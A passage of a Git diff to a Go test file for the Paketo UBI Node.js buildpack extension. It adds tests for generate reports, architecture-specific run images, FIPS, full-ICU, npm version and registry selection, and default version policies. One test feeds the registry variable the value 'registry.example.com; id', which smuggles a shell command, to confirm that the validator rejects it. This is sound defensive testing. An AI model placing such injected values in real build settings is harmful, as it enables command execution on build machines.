@@ -3,16 +3,19 @@ package ubinodejsextension_test
 import (
 	"bytes"
 	_ "embed"
+	"encoding/json"
 	"fmt"
 	"io"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	. "github.com/onsi/gomega"
 	"github.com/paketo-buildpacks/packit/cargo"
 	"github.com/paketo-buildpacks/packit/v2"
+	"github.com/paketo-buildpacks/packit/v2/chronos"
 	ubinodejsextension "github.com/paketo-buildpacks/ubi-nodejs-extension"
 	"github.com/paketo-buildpacks/ubi-nodejs-extension/internal/testhelpers"
 	"github.com/paketo-buildpacks/ubi-nodejs-extension/internal/utils"
@@ -41,21 +44,48 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 		buffer            *bytes.Buffer
 		logger            scribe.Emitter
 		dependencyManager postal.Service
+		clock             chronos.Clock
 	)
 
 	it.Before(func() {
 		buffer = bytes.NewBuffer(nil)
 		logger = scribe.NewEmitter(buffer)
 		dependencyManager = postal.NewService(cargo.NewTransport())
+		clock = chronos.NewClock(func() time.Time { return time.Date(2025, time.March, 1, 0, 0, 0, 0, time.UTC) })
 	})
 
+	newGenerate := func(buildImage structs.BuildImage) packit.GenerateFunc {
+		return ubinodejsextension.Generate(
+			dependencyManager,
+			logger,
+			structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
+			imagesJsonPath,
+			buildImage,
+			clock,
+		)
+	}
+
+	// setupGenerate creates the working directory, writes the images.json file
+	// of the builder and sets the generate function running on the build image
+	setupGenerate := func(imagesJsonContent string, buildImage structs.BuildImage) {
+		workingDir = t.TempDir()
+
+		imagesJsonTmpDir = t.TempDir()
+		imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
+		Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
+
+		generate = newGenerate(buildImage)
+	}
+
 	context("Generate called with NO node in build plan", func() {
 		it.Before(func() {
 			generate = ubinodejsextension.Generate(
 				dependencyManager,
 				logger,
 				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				"/path/to/images.json")
+				"/path/to/images.json",
+				structs.BuildImage{},
+				clock)
 
 			err = toml.NewEncoder(buf).Encode(testBuildPlan)
 			Expect(err).NotTo(HaveOccurred())
@@ -115,12 +145,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 			imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
 			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
 
-			generate = ubinodejsextension.Generate(
-				dependencyManager,
-				logger,
-				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				imagesJsonPath,
-			)
+			generate = newGenerate(structs.BuildImage{})
 
 			versionTests := []struct {
 				requestedNodeVersion string
@@ -201,18 +226,20 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 				runDockerfileContent, _ := utils.GenerateRunDockerfile(runDockerFileProps)
 
 				buildDockerfileProps := structs.BuildDockerfileProps{
-					CNB_USER_ID:    1002,
-					CNB_GROUP_ID:   1000,
-					CNB_STACK_ID:   "io.buildpacks.stacks.ubi8",
-					PACKAGES:       ubinodejsextension.PACKAGES,
-					NODEJS_VERSION: uint64(tt.expectedNodeVersion),
+					GENERATE_REPORT: true,
+					CNB_USER_ID:     1002,
+					CNB_GROUP_ID:    1000,
+					CNB_STACK_ID:    "io.buildpacks.stacks.ubi8",
+					PACKAGES:        ubinodejsextension.PACKAGES + " " + ubinodejsextension.NODEJS_HEADERS_PACKAGES,
+					NODEJS_HEADERS:  true,
+					NODEJS_VERSION:  uint64(tt.expectedNodeVersion),
 				}
 
 				buildDockerfileContent, _ := utils.GenerateBuildDockerfile(buildDockerfileProps)
 
 				buf := new(strings.Builder)
 				_, _ = io.Copy(buf, generateResult.RunDockerfile)
-				Expect(buf.String()).To(Equal(runDockerfileContent))
+				Expect(buf.String()).To(HavePrefix(runDockerfileContent + "\n"))
 				buf.Reset()
 				_, _ = io.Copy(buf, generateResult.BuildDockerfile)
 				Expect(buf.String()).To(Equal(buildDockerfileContent))
@@ -227,12 +254,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 			imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
 			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
 
-			generate = ubinodejsextension.Generate(
-				dependencyManager,
-				logger,
-				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				imagesJsonPath,
-			)
+			generate = newGenerate(structs.BuildImage{})
 
 			versionTests := []struct {
 				requestedNodeVersion string
@@ -286,18 +308,20 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 
 				runDockerfileContent, _ := utils.GenerateRunDockerfile(runDockerFileProps)
 				buildDockerfileProps := structs.BuildDockerfileProps{
-					CNB_USER_ID:    1002,
-					CNB_GROUP_ID:   1000,
-					CNB_STACK_ID:   "io.buildpacks.stacks.ubi8",
-					PACKAGES:       ubinodejsextension.PACKAGES,
-					NODEJS_VERSION: uint64(tt.expectedNodeVersion),
+					GENERATE_REPORT: true,
+					CNB_USER_ID:     1002,
+					CNB_GROUP_ID:    1000,
+					CNB_STACK_ID:    "io.buildpacks.stacks.ubi8",
+					PACKAGES:        ubinodejsextension.PACKAGES + " " + ubinodejsextension.NODEJS_HEADERS_PACKAGES,
+					NODEJS_HEADERS:  true,
+					NODEJS_VERSION:  uint64(tt.expectedNodeVersion),
 				}
 
 				buildDockerfileContent, _ := utils.GenerateBuildDockerfile(buildDockerfileProps)
 
 				buf := new(strings.Builder)
 				_, _ = io.Copy(buf, generateResult.RunDockerfile)
-				Expect(buf.String()).To(Equal(runDockerfileContent))
+				Expect(buf.String()).To(HavePrefix(runDockerfileContent + "\n"))
 				buf.Reset()
 				_, _ = io.Copy(buf, generateResult.BuildDockerfile)
 				Expect(buf.String()).To(Equal(buildDockerfileContent))
@@ -312,12 +336,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 			imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
 			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
 
-			generate = ubinodejsextension.Generate(
-				dependencyManager,
-				logger,
-				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				imagesJsonPath,
-			)
+			generate = newGenerate(structs.BuildImage{})
 
 			versionTests := []struct {
 				requestedNodeVersion string
@@ -361,18 +380,20 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 				runDockerfileContent, _ := utils.GenerateRunDockerfile(runDockerFileProps)
 
 				buildDockerfileProps := structs.BuildDockerfileProps{
-					CNB_USER_ID:    1002,
-					CNB_GROUP_ID:   1000,
-					CNB_STACK_ID:   "io.buildpacks.stacks.ubi8",
-					PACKAGES:       ubinodejsextension.PACKAGES,
-					NODEJS_VERSION: uint64(tt.expectedNodeVersion),
+					GENERATE_REPORT: true,
+					CNB_USER_ID:     1002,
+					CNB_GROUP_ID:    1000,
+					CNB_STACK_ID:    "io.buildpacks.stacks.ubi8",
+					PACKAGES:        ubinodejsextension.PACKAGES + " " + ubinodejsextension.NODEJS_HEADERS_PACKAGES,
+					NODEJS_HEADERS:  true,
+					NODEJS_VERSION:  uint64(tt.expectedNodeVersion),
 				}
 
 				buildDockerfileContent, _ := utils.GenerateBuildDockerfile(buildDockerfileProps)
 
 				buf := new(strings.Builder)
 				_, _ = io.Copy(buf, generateResult.RunDockerfile)
-				Expect(buf.String()).To(Equal(runDockerfileContent))
+				Expect(buf.String()).To(HavePrefix(runDockerfileContent + "\n"))
 				buf.Reset()
 				_, _ = io.Copy(buf, generateResult.BuildDockerfile)
 				Expect(buf.String()).To(Equal(buildDockerfileContent))
@@ -386,12 +407,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 			imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
 			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
 
-			generate = ubinodejsextension.Generate(
-				dependencyManager,
-				logger,
-				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				imagesJsonPath,
-			)
+			generate = newGenerate(structs.BuildImage{})
 
 			versionTests := []struct {
 				requestedNodeVersion string
@@ -475,12 +491,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 			imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
 			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
 
-			generate = ubinodejsextension.Generate(
-				dependencyManager,
-				logger,
-				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				imagesJsonPath,
-			)
+			generate = newGenerate(structs.BuildImage{})
 
 			entriesTests := []struct {
 				Entries            []packit.BuildpackPlanEntry
@@ -558,7 +569,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 
 				buf := new(strings.Builder)
 				_, _ = io.Copy(buf, generateResult.RunDockerfile)
-				Expect(buf.String()).To(Equal(runDockerfileContent))
+				Expect(buf.String()).To(HavePrefix(runDockerfileContent + "\n"))
 			}
 
 		})
@@ -593,12 +604,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 			imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
 			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
 
-			generate = ubinodejsextension.Generate(
-				dependencyManager,
-				logger,
-				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				imagesJsonPath,
-			)
+			generate = newGenerate(structs.BuildImage{})
 
 			entriesTests := []struct {
 				Entries                   []packit.BuildpackPlanEntry
@@ -637,7 +643,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 
 				buf := new(strings.Builder)
 				_, _ = io.Copy(buf, generateResult.RunDockerfile)
-				Expect(buf.String()).To(Equal(runDockerfileContent))
+				Expect(buf.String()).To(HavePrefix(runDockerfileContent + "\n"))
 			}
 		})
 
@@ -648,12 +654,7 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 			imagesJsonPath = filepath.Join(imagesJsonTmpDir, "images.json")
 			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
 
-			generate = ubinodejsextension.Generate(
-				dependencyManager,
-				logger,
-				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
-				imagesJsonPath,
-			)
+			generate = newGenerate(structs.BuildImage{})
 
 			entriesTests := []struct {
 				Entries                   []packit.BuildpackPlanEntry
@@ -694,9 +695,1613 @@ func testGenerate(t *testing.T, context spec.G, it spec.S) {
 
 				buf := new(strings.Builder)
 				_, _ = io.Copy(buf, generateResult.RunDockerfile)
-				Expect(buf.String()).To(Equal(runDockerfileContent))
+				Expect(buf.String()).To(HavePrefix(runDockerfileContent + "\n"))
+			}
+		})
+	}, spec.Sequential())
+
+	context("When the generate report is produced", func() {
+
+		var outputDir string
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+			outputDir = t.TempDir()
+			t.Setenv("CNB_OUTPUT_DIR", outputDir)
+			t.Setenv("CNB_TARGET_ARCH", "amd64")
+		})
+
+		it("writes the report on the output directory", func() {
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "~16", "version-source": ".nvmrc"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			var generateReport structs.GenerateReport
+			_, err = toml.DecodeFile(filepath.Join(outputDir, "generate-report.toml"), &generateReport)
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(generateReport).To(Equal(structs.GenerateReport{
+				NodeRequestedVersion: "~16",
+				NodeVersionSource:    ".nvmrc",
+				DefaultVersionPolicy: "builder-default",
+				NodeMajorVersion:     16,
+				NodeLaunch:           true,
+				RunImage:             "paketocommunity/run-nodejs-16-ubi-base",
+				RunImageSource:       "images.json",
+				Packages:             append(strings.Fields(ubinodejsextension.PACKAGES), "nodejs-devel"),
+				ImagesJsonPath:       imagesJsonPath,
+				Platform:             "linux/amd64",
+				DistroVersion:        "8",
+				PackageManager:       "microdnf",
+				BuildTemplate:        "embedded",
+				RunTemplate:          "embedded",
+				RunPackages:          []string{},
+			}))
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM paketocommunity/run-nodejs-16-ubi-base\n"))
+		})
+
+		it("exposes the report to the later buildpacks and as a run image label", func() {
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "~16", "version-source": ".nvmrc"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			Expect(generateResult.ExtendConfig.Build.Args).To(HaveLen(1))
+			Expect(generateResult.ExtendConfig.Build.Args[0].Name).To(Equal("ubi_nodejs_generate_report"))
+
+			var generateReport structs.GenerateReport
+			Expect(json.Unmarshal([]byte(generateResult.ExtendConfig.Build.Args[0].Value), &generateReport)).To(Succeed())
+			Expect(generateReport.NodeRequestedVersion).To(Equal("~16"))
+			Expect(generateReport.NodeMajorVersion).To(Equal(uint64(16)))
+			Expect(generateReport.RunImage).To(Equal("paketocommunity/run-nodejs-16-ubi-base"))
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring(`
+ARG ubi_nodejs_generate_report
+ENV UBI_NODEJS_GENERATE_REPORT="${ubi_nodejs_generate_report}"
+`))
+
+			buf.Reset()
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(ContainSubstring(`LABEL io.paketo.ubi-nodejs.generate-report="{\"node-requested-version\":\"~16\",\"node-version-source\":\".nvmrc\",`))
+		})
+
+		it("labels the run image with the selected Node.js stream and base image", func() {
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Info:       packit.Info{Version: "1.2.3"},
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(ContainSubstring(`LABEL io.paketo.ubi-nodejs.extension-version="1.2.3"`))
+			Expect(buf.String()).To(ContainSubstring(`LABEL io.paketo.ubi-nodejs.major-version="18"`))
+			Expect(buf.String()).To(ContainSubstring(`LABEL io.paketo.ubi-nodejs.source-image="paketocommunity/run-nodejs-18-ubi-base"`))
+			Expect(buf.String()).To(ContainSubstring(`LABEL io.paketo.ubi-nodejs.version="nodejs:18"`))
+			Expect(buf.String()).To(ContainSubstring(`LABEL org.opencontainers.image.base.name="paketocommunity/run-nodejs-18-ubi-base"`))
+		})
+	}, spec.Sequential())
+
+	context("When the build runs on a specific architecture", func() {
+
+		it.Before(func() {
+			t.Setenv("CNB_TARGET_ARCH", "arm64")
+
+			setupGenerate(`{
+  "images": [
+    { "name": "nodejs-18", "is_default_run_image": true, "platforms": ["linux/amd64"] },
+    {
+      "name": "nodejs-20",
+      "platforms": ["linux/amd64", "linux/arm64"],
+      "run_images": { "linux/arm64": "registry.example.com/run-nodejs-20-ubi-base-arm64" }
+    }
+  ]
+}`, structs.BuildImage{})
+		})
+
+		it("selects the run image declared for that architecture", func() {
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "20.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM registry.example.com/run-nodejs-20-ubi-base-arm64\n"))
+		})
+
+		it("fails with a clear message when the requested version is not offered for that architecture", func() {
+			_, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(ContainSubstring("failed to resolve Node.js for platform linux/arm64"))
+		})
+
+		it("fails when no version is requested and the default version is not offered for that architecture", func() {
+			_, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{{Name: "node"}},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).To(MatchError("default node.js version 18 is not offered for platform linux/arm64"))
+		})
+	}, spec.Sequential())
+
+	context("When BP_UBI_NODE_FIPS env has been set", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		it("enables FIPS mode on both the build and the run image", func() {
+			t.Setenv("BP_UBI_NODE_FIPS", "true")
+
+			generateResult, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).NotTo(HaveOccurred())
+
+			buildDockerfileContent, _ := utils.GenerateBuildDockerfile(structs.BuildDockerfileProps{
+				GENERATE_REPORT: true,
+				CNB_USER_ID:     1002,
+				CNB_GROUP_ID:    1000,
+				CNB_STACK_ID:    "io.buildpacks.stacks.ubi8",
+				PACKAGES:        ubinodejsextension.PACKAGES + " " + ubinodejsextension.NODEJS_HEADERS_PACKAGES + " " + ubinodejsextension.FIPS_PACKAGES,
+				NODEJS_HEADERS:  true,
+				NODEJS_VERSION:  18,
+				FIPS:            true,
+			})
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(Equal(buildDockerfileContent))
+			buf.Reset()
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HaveSuffix(`USER root
+RUN microdnf --setopt=install_weak_deps=0 --setopt=tsflags=nodocs install -y crypto-policies-scripts && microdnf clean all
+RUN update-crypto-policies --set FIPS
+ENV NODE_OPTIONS="--use-openssl-ca --enable-fips"
+USER 1002:1000`))
+		})
+
+		it("fails when BP_UBI_NODE_FIPS is not a boolean", func() {
+			t.Setenv("BP_UBI_NODE_FIPS", "enabled")
+
+			_, err = generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+			Expect(err).To(HaveOccurred())
+			Expect(err.Error()).To(Equal(`invalid value "enabled" for BP_UBI_NODE_FIPS, expected true or false`))
+		})
+	}, spec.Sequential())
+
+	context("When BP_UBI_NODE_FULL_ICU env has been set", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		generateWithLaunch := func(launch bool) (packit.GenerateResult, error) {
+			return generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION", "build": !launch, "launch": launch},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+		}
+
+		it("installs the full ICU data on both the build and the run image", func() {
+			t.Setenv("BP_UBI_NODE_FULL_ICU", "true")
+
+			generateResult, err = generateWithLaunch(true)
+			Expect(err).NotTo(HaveOccurred())
+
+			buildDockerfileContent, _ := utils.GenerateBuildDockerfile(structs.BuildDockerfileProps{
+				GENERATE_REPORT: true,
+				CNB_USER_ID:     1002,
+				CNB_GROUP_ID:    1000,
+				CNB_STACK_ID:    "io.buildpacks.stacks.ubi8",
+				PACKAGES:        ubinodejsextension.PACKAGES + " " + ubinodejsextension.NODEJS_HEADERS_PACKAGES + " " + ubinodejsextension.FULL_ICU_PACKAGES,
+				NODEJS_HEADERS:  true,
+				NODEJS_VERSION:  18,
+				FULL_ICU:        true,
+			})
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(Equal(buildDockerfileContent))
+			buf.Reset()
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HaveSuffix(`USER root
+RUN microdnf --setopt=install_weak_deps=0 --setopt=tsflags=nodocs install -y nodejs-full-i18n && microdnf clean all
+ENV NODE_ICU_DATA=/usr/share/nodejs/icudata
+USER 1002:1000`))
+			Expect(buffer.String()).To(ContainSubstring("Installing the full ICU data as BP_UBI_NODE_FULL_ICU is set to true"))
+		})
+
+		it("only installs the full ICU data on the build image when Node.js is not required at launch", func() {
+			t.Setenv("BP_UBI_NODE_FULL_ICU", "true")
+
+			generateResult, err = generateWithLaunch(false)
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("ENV NODE_ICU_DATA=/usr/share/nodejs/icudata"))
+			Expect(generateResult.RunDockerfile).To(BeNil())
+		})
+
+		it("fails when BP_UBI_NODE_FULL_ICU is not a boolean", func() {
+			t.Setenv("BP_UBI_NODE_FULL_ICU", "yes")
+
+			_, err = generateWithLaunch(true)
+			Expect(err).To(MatchError(`invalid value "yes" for BP_UBI_NODE_FULL_ICU, expected true or false`))
+		})
+	}, spec.Sequential())
+
+	context("When a npm version is requested", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18"}, []bool{false, true}, false), structs.BuildImage{})
+		})
+
+		generateContext := func() packit.GenerateContext {
+			return packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": "18.*", "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
 			}
+		}
+
+		it("installs the tarball of the builder matching engines.npm of package.json", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, "package.json"), []byte(`{"engines": {"npm": "^10.9.0"}}`), 0644)).To(Succeed())
+
+			tarballsDir := filepath.Join(imagesJsonTmpDir, "ubi-nodejs-extension", "npm")
+			Expect(os.MkdirAll(tarballsDir, os.ModePerm)).To(Succeed())
+			Expect(os.WriteFile(filepath.Join(tarballsDir, "npm-10.9.3.tgz"), []byte{}, 0644)).To(Succeed())
+
+			generateResult, err = generate(generateContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring(fmt.Sprintf("RUN npm install -g '%s' && npm cache clean --force", filepath.Join(tarballsDir, "npm-10.9.3.tgz"))))
+			Expect(buffer.String()).To(ContainSubstring("Installing npm 10.9.3 requested by package.json from the tarball of the builder"))
+		})
+
+		it("keeps the npm bundled with Node.js when it satisfies engines.npm of package.json", func() {
+			Expect(os.WriteFile(filepath.Join(workingDir, "package.json"), []byte(`{"engines": {"npm": ">=8"}}`), 0644)).To(Succeed())
+
+			generateResult, err = generate(generateContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).NotTo(ContainSubstring("npm install -g"))
+			Expect(buffer.String()).To(ContainSubstring("Keeping npm 10.8.2 bundled with Node.js 18 as it satisfies >=8 requested by package.json"))
+		})
+
+		it("installs the version of BP_UBI_NPM_VERSION from the registry of BP_UBI_NPM_REGISTRY", func() {
+			t.Setenv("BP_UBI_NPM_VERSION", "9.9.3")
+			t.Setenv("BP_UBI_NPM_REGISTRY", "https://nexus.example.com/repository/npm/")
+
+			generateResult, err = generate(generateContext())
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.BuildDockerfile)
+			Expect(buf.String()).To(ContainSubstring("RUN npm install -g --registry='https://nexus.example.com/repository/npm/' 'npm@9.9.3' && npm cache clean --force"))
+			Expect(buffer.String()).To(ContainSubstring("Installing npm 9.9.3 requested by BP_UBI_NPM_VERSION from the registry"))
+			Expect(buffer.String()).To(ContainSubstring("Using the registry https://nexus.example.com/repository/npm/ set by BP_UBI_NPM_REGISTRY"))
+		})
+
+		it("fails when the npm version is not compatible with Node.js", func() {
+			t.Setenv("BP_UBI_NPM_VERSION", "11")
+
+			_, err = generate(generateContext())
+			Expect(err).To(MatchError(`npm 11, resolved from "11" requested by BP_UBI_NPM_VERSION, is not compatible with Node.js 18, npm 11 requires Node.js >=20`))
+		})
+
+		it("fails when BP_UBI_NPM_REGISTRY is not a URL", func() {
+			t.Setenv("BP_UBI_NPM_VERSION", "10")
+			t.Setenv("BP_UBI_NPM_REGISTRY", "registry.example.com; id")
+
+			_, err = generate(generateContext())
+			Expect(err).To(MatchError(`invalid registry set by BP_UBI_NPM_REGISTRY: npm registry "registry.example.com; id" is not a valid http or https URL`))
 		})
 	}, spec.Sequential())
 
+	context("When BP_UBI_NODE_DEFAULT_VERSION_POLICY env has been set", func() {
+
+		it.Before(func() {
+			setupGenerate(testhelpers.GenerateImagesJsonFile([]string{"16", "18", "20"}, []bool{true, false, false}, false), structs.BuildImage{})
+		})
+
+		generateWithNodeVersion := func(nodeVersion string) (packit.GenerateResult, error) {
+			return generate(packit.GenerateContext{
+				WorkingDir: workingDir,
+				Plan: packit.BuildpackPlan{
+					Entries: []packit.BuildpackPlanEntry{
+						{
+							Name:     "node",
+							Metadata: map[string]interface{}{"version": nodeVersion, "version-source": "BP_NODE_VERSION"},
+						},
+					},
+				},
+				Stack: "io.buildpacks.stacks.ubi8",
+			})
+		}
+
+		it("selects the default version with the policy when no version is requested", func() {
+			t.Setenv("BP_UBI_NODE_DEFAULT_VERSION_POLICY", "latest")
+
+			generateResult, err = generateWithNodeVersion("")
+			Expect(err).NotTo(HaveOccurred())
+
+			buf := new(strings.Builder)
+			_, _ = io.Copy(buf, generateResult.RunDockerfile)
+			Expect(buf.String()).To(HavePrefix("FROM paketocommunity/run-nodejs-20-ubi-base\n"))
+			Expect(buffer.String()).To(ContainSubstring("No Node.js version requested, applying the latest default version policy"))
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 20"))
+		})
+
+		it("keeps the requested version", func() {
+			t.Setenv("BP_UBI_NODE_DEFAULT_VERSION_POLICY", "latest")
+
+			generateResult, err = generateWithNodeVersion("18.*")
+			Expect(err).NotTo(HaveOccurred())
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 18"))
+		})
+
+		it("does not apply the policy when a version is requested", func() {
+			t.Setenv("BP_UBI_NODE_DEFAULT_VERSION_POLICY", "latest-lts")
+			generate = ubinodejsextension.Generate(
+				dependencyManager,
+				logger,
+				structs.DuringBuildPermissions{CNB_USER_ID: 1002, CNB_GROUP_ID: 1000},
+				imagesJsonPath,
+				structs.BuildImage{},
+				chronos.NewClock(func() time.Time { return time.Date(2026, time.October, 19, 0, 0, 0, 0, time.UTC) }),
+			)
+
+			generateResult, err = generateWithNodeVersion("18.*")
+			Expect(err).NotTo(HaveOccurred())
+			Expect(buffer.String()).NotTo(ContainSubstring("default version policy"))
+			Expect(buffer.String()).To(ContainSubstring("Selected Node Engine Major version 18"))
+		})
+
+		it("falls back to the default version of the builder when no offered version matches the policy", func() {
+			t.Setenv("BP_UBI_NODE_DEFAULT_VERSION_POLICY", "oldest-supported")
+
+			imagesJsonContent := testhelpers.GenerateImagesJsonFile([]string{"16", "17"}, []bool{true, false}, false)
+			Expect(os.WriteFile(imagesJsonPath, []byte(imagesJsonContent), 0644)).To(Succeed())
+
+			_, err = generateWithNodeVersion("")
+			Expect(err).NotTo(HaveOccurred())
+			Expect(buffer.String()).To(ContainSubstring("WARNING: no node.js version matches the oldest-supported default version policy on 2025-03-01, offered versions are: 16, 17"))
